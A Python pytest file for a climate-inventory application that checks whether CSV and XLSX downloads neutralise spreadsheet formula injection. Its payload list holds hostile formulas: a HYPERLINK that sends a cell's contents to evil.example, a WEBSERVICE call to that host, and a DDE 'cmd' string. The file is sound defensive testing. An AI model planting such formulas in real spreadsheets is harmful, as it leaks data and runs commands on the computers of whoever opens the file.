"""Attack: spreadsheet formulas typed into free text reach whoever opens a download.

A note or source such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` or
``=WEBSERVICE(...)`` was written verbatim into the CSV and XLSX downloads, where a
spreadsheet program runs it; once the inventory is published, the download is
anonymous. Every CSV and XLSX export goes through ``climateplan.reports.cells``: a text
cell starting with ``= + - @`` (or tab, carriage return, or their full-width forms)
is written with a leading apostrophe and stored as text. JSON is data for programs,
not a spreadsheet: it keeps the text exactly as typed.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from tests.web.conftest import advance

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd",
]
NOTE = PAYLOADS[0]
SOURCE = PAYLOADS[1]


def activity_csv() -> str:
    rows = ["gpc_ref,method,activity,amount,unit,source,note"]
    for n, payload in enumerate(PAYLOADS):
        quoted = '"' + payload.replace('"', '""') + '"'
        rows.append(f"I.1.1,fuel_combustion,lpg,{n + 1},t,{quoted},{quoted}")
    return "\n".join(rows) + "\n"


def assert_inert_csv(text: str) -> None:
    records = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    notes = [r["note"] for r in records]
    assert notes == ["'" + p for p in PAYLOADS]
    assert [r["source"] for r in records] == ["'" + p for p in PAYLOADS]
    # numbers stay numbers (a negative number is not text and is never touched)
    assert all(not r["co2e"].startswith("'") for r in records)


def assert_inert_workbook(data: bytes) -> int:
    """Checks every text cell; returns how many of them hold a (neutralised) payload."""
    book = load_workbook(io.BytesIO(data))  # formulas would load as "=..." strings
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert not cell.value.startswith(("=", "+", "-", "@")), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    seen += cell.value.lstrip("'") in PAYLOADS
    return seen


# --------------------------------------------------------------------------- the web


@pytest.fixture
def published_with_payloads(db, users):
    from climateplan.inventory.web import services

    inventory = services.create_inventory(users["editor"], "TH-50", 2023)
    services.upload(
        users["editor"], inventory, "notes.csv", activity_csv().encode(), expected_revision=1
    )
    return advance(inventory, users, "submit", "approve", "publish")


@pytest.mark.django_db
def test_anonymous_csv_download_of_a_published_inventory_is_inert(client, published_with_payloads):
    response = client.get(f"/inventories/{published_with_payloads.pk}/download/csv/")
    assert response.status_code == 200
    assert_inert_csv(response.content.decode("utf-8-sig"))


@pytest.mark.django_db
def test_anonymous_xlsx_download_of_a_published_inventory_is_inert(client, published_with_payloads):
    response = client.get(f"/inventories/{published_with_payloads.pk}/download/xlsx/")
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert assert_inert_workbook(body) >= len(PAYLOADS)


@pytest.mark.django_db
def test_json_download_keeps_the_text_exactly(client, published_with_payloads):
    response = client.get(f"/inventories/{published_with_payloads.pk}/download/json/")
    lines = json.loads(response.content)["lines"]
    assert [line["note"] for line in lines] == PAYLOADS


# --------------------------------------------------------------------------- the CLI and core


@pytest.fixture
def payload_file(tmp_path):
    path = tmp_path / "notes.csv"
    path.write_text(activity_csv(), encoding="utf-8")
    return path


def _cli(*args):
    from climateplan.cli.main import app

    result = CliRunner().invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    return result


def test_cli_csv_to_stdout_and_to_a_file_are_inert(payload_file, tmp_path):
    common = ["inventory", "compute", payload_file, "--province", "TH-50", "--year", "2023"]
    stdout = _cli(*common, "--format", "csv").stdout
    assert_inert_csv(stdout)
    out = tmp_path / "out.csv"
    _cli(*common, "--format", "csv", "-o", out)
    assert_inert_csv(out.read_text(encoding="utf-8-sig"))


def test_cli_xlsx_is_inert(payload_file, tmp_path):
    out = tmp_path / "out.xlsx"
    _cli(
        "inventory",
        "compute",
        payload_file,
        "--province",
        "TH-50",
        "--year",
        "2023",
        "--format",
        "xlsx",
        "-o",
        out,
    )
    assert assert_inert_workbook(out.read_bytes()) >= len(PAYLOADS)


def test_activity_template_goes_through_the_sanitiser(tmp_path, monkeypatch):
    # The template holds only the product's own text; it is written through the same
    # sanitiser, so a method description or factor note starting with "=" or "-"
    # could never become a formula either.
    from climateplan.inventory import template

    built = template.build_template()
    built.worksheets[0]["A1"] = '=HYPERLINK("http://evil.example/","x")'
    monkeypatch.setattr(template, "build_template", lambda: built)
    out = tmp_path / "template.xlsx"
    _cli("inventory", "template", out)
    assert (
        load_workbook(out).worksheets[0]["A1"].value == '\'=HYPERLINK("http://evil.example/","x")'
    )
    assert_inert_workbook(out.read_bytes())


@pytest.mark.django_db
def test_web_activity_template_goes_through_the_sanitiser(client, monkeypatch):
    from django.urls import reverse

    from climateplan.inventory import template

    built = template.build_template()
    built.worksheets[0]["A1"] = '=WEBSERVICE("http://evil.example/")'
    monkeypatch.setattr(template, "build_template", lambda: built)
    response = client.get(reverse("activity_template"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.worksheets[0]["A1"].value == '\'=WEBSERVICE("http://evil.example/")'
    assert_inert_workbook(response.content)
